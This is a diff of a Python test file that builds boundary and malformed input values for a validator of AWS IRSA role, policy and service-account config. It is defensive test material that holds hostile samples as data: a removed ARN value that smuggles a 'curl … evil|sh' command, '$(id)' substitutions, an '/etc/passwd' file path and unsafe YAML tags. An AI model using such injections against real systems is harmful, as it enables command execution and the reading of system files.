@@ -8,10 +8,12 @@ from pathlib import Path
 from typing import Any
 
 import yaml
+from pydantic.alias_generators import to_camel
 
 from irsa.rules.mistakes import Place
 from irsa_config.key_types import keys_at
 from tests.places import at, places
+from tests.unit.irsa.test_fields import VALUES as OF_FIELDS
 
 ROOT = Path(__file__).parents[2]
 BASES = tuple(
@@ -43,162 +45,38 @@ VALUES: tuple[Any, ...] = (
     ),
     *([STATEMENT], [{**STATEMENT, "Principal": "*"}], [{**STATEMENT, "Sid": "s"}, {**STATEMENT, "Sid": "s"}]),
 )
-ROLE = "arn:aws:iam::111122223333:role/"
 
 
-def _policy(**changes: Any) -> dict[str, Any]:
-    return {
-        "Version": "2012-10-17",
-        "Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"} | changes],
-    }
+def _by_key() -> dict[str, tuple[Any, ...]]:
+    """Return values of the right kind, by the key that they are for: those of each argument, good and bad, and more."""
+    found: dict[str, tuple[Any, ...]] = {key: (*more,) for key, more in OF_STACK_FILES.items()}
+    for name, (good, bad) in OF_FIELDS.items():
+        key = to_camel(name.rpartition(".")[2].rstrip("_"))
+        # As often good as bad: what is accepted goes deeper.
+        found[key] = (*found.get(key, ()), *[good] * len(bad), *bad)
+    return found
 
 
-# Values of the right kind, each at a limit or beyond it, by the key that they are for.
-BY_KEY: dict[str, tuple[Any, ...]] = {
-    "tags": (
-        *(
-            {"Team": "a", "team": "b"},
-            {"aws:x": "y"},
-            {"": "x"},
-            {"k" * 128: "v" * 256},
-            {"k" * 129: "v"},
-            {"a;b": "x"},
-        ),
-        *({"ä": "日本"}, {"x": 1}, {"x": True}, {"\n": "x"}, {f"k{n}": "v" for n in range(51)}, {"a": "\u0663"}),
-    ),
-    "conditions": (
-        *({"NullIfExists": {"aws:username": "true"}}, {"ForAnyValue:Null": {"aws:username": "true"}}, {"Null": {}}),
-        *({"ForAnyValue:ForAllValues:StringEquals": {"a:b": "x"}}, {"StringEquals": {"aws:RequestTag/a": 12}}, {}),
-        *({"StringEquals": {"aws:RequestTag/${bucket}": "x", "aws:RequestTag/my-pod-secrets-bucket": "y"}}, {"x": {}}),
-        *(
-            {"StringLike": {"aws:userid": "${cluster}*"}},
-            {"StringEquals": {"aws:username": "日本"}},
-            {"Bool": {"a:b": []}},
-        ),
-        *({"stringequals": {"aws:username": ["a", "b"]}}, {"StringEqualsIfExists": {"${cluster}:sub": "x"}}),
-    ),
-    "statements": (
-        *([STATEMENT], [{**STATEMENT, "Sid": "Same"}, {**STATEMENT, "Sid": "Same"}], [{**STATEMENT, "Sid": "a b"}]),
-        *([{**STATEMENT, "Action": "s3:GetObject"}], [{**STATEMENT, "Principal": {"AWS": [1, ""]}}], [STATEMENT] * 9),
-        *([{**STATEMENT, "Principal": "*"}], [{**STATEMENT, "Principal": {}}], [{**STATEMENT, "Resource": "*"}], []),
-        *([{**STATEMENT, "NotAction": "sts:TagSession"}], [{**STATEMENT, "Principal": {"Federated": "*"}}], [[]]),
-    ),
-    "document": (
-        *(
-            _policy(),
-            _policy(Sid="a b"),
-            _policy(Resource="arn:aws:s3:::日本"),
-            _policy(Action=[]),
-            _policy(Effect="allow"),
-        ),
-        *(_policy(Condition={"NullIfExists": {"a:b": "true"}}), _policy(Principal="*"), _policy(NotAction="*"), {}),
-        *(_policy(Resource=["x"] * 3), _policy(Resource=[f"arn:aws:s3:::{n:0>60}/*" for n in range(150)]), "{", "null"),
-        *(_policy(Condition={"NumericLessThan": {"s3:max-keys": 10}}), _policy(Resource="arn:aws:s3:::${cluster}*")),
-        *(
-            {"Version": "2008-10-17", "Statement": _policy()["Statement"]},
-            {**_policy(), "Id": "x"},
-            {**_policy(), "X": 1},
-        ),
-    ),
-    "name": (
-        "a",
-        "a" * 63,
-        "a" * 64,
-        "a" * 65,
-        "a" * 128,
-        "a" * 253,
-        "a.b",
-        "A",
-        "a-",
-        "日本",
-        "a_b",
-        "a b",
-        "\u0663",
-        "1",
-    ),
-    "namespace": ("a", "a" * 63, "a" * 64, "a.b", "A", "-a", "日本", "default", "kube-system"),
-    "path": (
-        "/",
-        "//",
-        "/x",
-        "x/",
-        "/a*b$(id)/",
-        "/日本/",
-        "/a/b/",
-        f"/{'a' * 510}/",
-        f"/{'a' * 511}/",
-        "/a b/",
-        "/~/",
-    ),
-    "description": ("\u201cquoted\u201d", "日本", "\u20ac", "é", "x" * 1000, "x" * 1001, "\n", "\x7f", "\x00", ""),
-    "labels": (
-        {"a/b/c": "x"},
-        {"-a": "x"},
-        {"a": "x" * 63},
-        {"a": "x" * 64},
-        {"A": "-"},
-        {"a": "日本"},
-        {"x" * 64: ""},
-        {"": ""},
-    ),
-    "annotations": ({"eks.amazonaws.com/role-arn": "x"}, {"a b": "x"}, {"A/b": "x"}, {"a": "\n"}, {"a": 1}, {"a": ""}),
-    "arn": (
-        f"{ROLE}x",
-        f"{ROLE}x;curl${{IFS}}evil|sh",
-        f"{ROLE}{'x' * 300}",
-        f"{ROLE}日本",
-        "arn:aws:iam::\u0661\u0661\u0661\u0661\u0662\u0662\u0662\u0662\u0663\u0663\u0663\u0663:role/x",
-    ),
-    "permissionsBoundary": (
-        "arn:aws:iam::aws:policy/X",
-        "arn:aws:iam::111122223333:policy/x y",
-        f"{ROLE}x",
-        "arn:aws:iam::111122223333:policy/日本",
-    ),
-    "policyArns": (
-        ["arn:aws:iam::aws:policy/X"] * 2,
-        ["arn:aws:iam::111122223333:policy/x$(id)"],
-        [f"arn:aws:iam::aws:policy/{n}" for n in range(21)],
-    ),
-    "assumeRoleArns": ([f"{ROLE}x"], [f"{ROLE}x"] * 2, [f"{ROLE}*"], [f"{ROLE}x y"], []),
-    "audience": ("x", "x" * 255, "x" * 256, "日本", "a b", "*", "a,b"),
-    "subjects": (
-        ["a:b"] * 2,
-        ["*:?*"],
-        ["a:b:c"],
-        [f"n{n}:a" for n in range(200)],
-        ["a*:*", "b:?*"],
-        ["*:*"],
-        ["A:b"],
-        [],
-    ),
-    "maxSessionDuration": (3599, 3600, 43200, 43201, "3600", 3600.0, 3600.5, True),
-    "tokenExpiration": (599, 600, 86400, 86401, 10**12, "600"),
-    "imagePullSecrets": (["a"], ["a", "a"], ["A"], ["a" * 254], [{"name": "a"}]),
-    "import": (["role"], ["role", "role"], ["serviceAccount", "attachments"], ["x"]),
-    "formerly": ("a", "a@b", "a::b", "日本", "$(id)"),
-    "clusters": (["blue"], ["blue", "blue"], ["blue", "green"], ["none"]),
-    "file": ("policies/../policies/my-policy.json", "/etc/passwd", "policies/\x00", "x" * 5000),
-    "oidcIssuer": (
-        *(
-            "https://x",
-            "https://x/",
-            "http://x",
-            "https://x/id/A$(id)",
-            "https://x?y",
-            "https://日本",
-            "https://user@x",
-        ),
-    ),
-    "variables": (
-        {"bucket": ""},
-        {"bucket": "${bucket}"},
-        {"bucket": "*"},
-        {"bucket": 1},
-        {"account": "x"},
-        {"a b": "x"},
-    ),
+# What a stack file alone has, and more of what is at a limit or beyond it.
+OF_STACK_FILES: dict[str, Sequence[Any]] = {
+    "tags": [{"Team": "a", "team": "b"}, {"k" * 128: "v" * 256}, {"ä": "日本"}, {f"k{n}": "v" for n in range(51)}],
+    "conditions": [
+        *({"NullIfExists": {"aws:username": "true"}}, {"ForAnyValue:ForAllValues:StringEquals": {"a:b": "x"}}),
+        *({"StringEquals": {"aws:RequestTag/${bucket}": "x"}}, {"StringLike": {"aws:userid": "${cluster}*"}}),
+    ],
+    "statements": [[{**STATEMENT, "Sid": "Same"}] * 2, [STATEMENT] * 9, [{**STATEMENT, "NotAction": "sts:TagSession"}]],
+    "name": ["a" * length for length in (63, 64, 65, 128, 253)],
+    "path": ["/", "/a*b$(id)/", "/日本/", f"/{'a' * 510}/", f"/{'a' * 511}/"],
+    "description": ["\u201cquoted\u201d", "x" * 1000, "\n", "\x7f", "\x00"],
+    "policyArns": [["arn:aws:iam::aws:policy/X"] * 2, [f"arn:aws:iam::aws:policy/{n}" for n in range(21)]],
+    "subjects": [["a:b"] * 2, ["*:?*"], [f"n{n}:a" for n in range(200)]],
+    "formerly": ["a", "a@b", "a::b", "日本", "$(id)"],
+    "clusters": [["blue"], ["blue", "blue"], ["blue", "green"], ["none"]],
+    "file": ["policies/../policies/my-policy.json", "/etc/passwd", "policies/\x00", "x" * 5000],
+    "oidcIssuer": ["https://x", "https://x/", "http://x", "https://x/id/A$(id)", "https://x?y", "https://user@x"],
+    "variables": [{"bucket": each} for each in ("", "${bucket}", "*", 1)] + [{"account": "x"}, {"a b": "x"}],
 }
+BY_KEY = _by_key()
 # Text that changes what YAML makes of the rest, put where a value may begin.
 YAML = ("&a ", "*a", "!!int ", "!!binary ", "!!python/object:x ", "!x ", "<<: *a", "? ", "- ", "| ", ">\n", "%YAML 9\n")
 
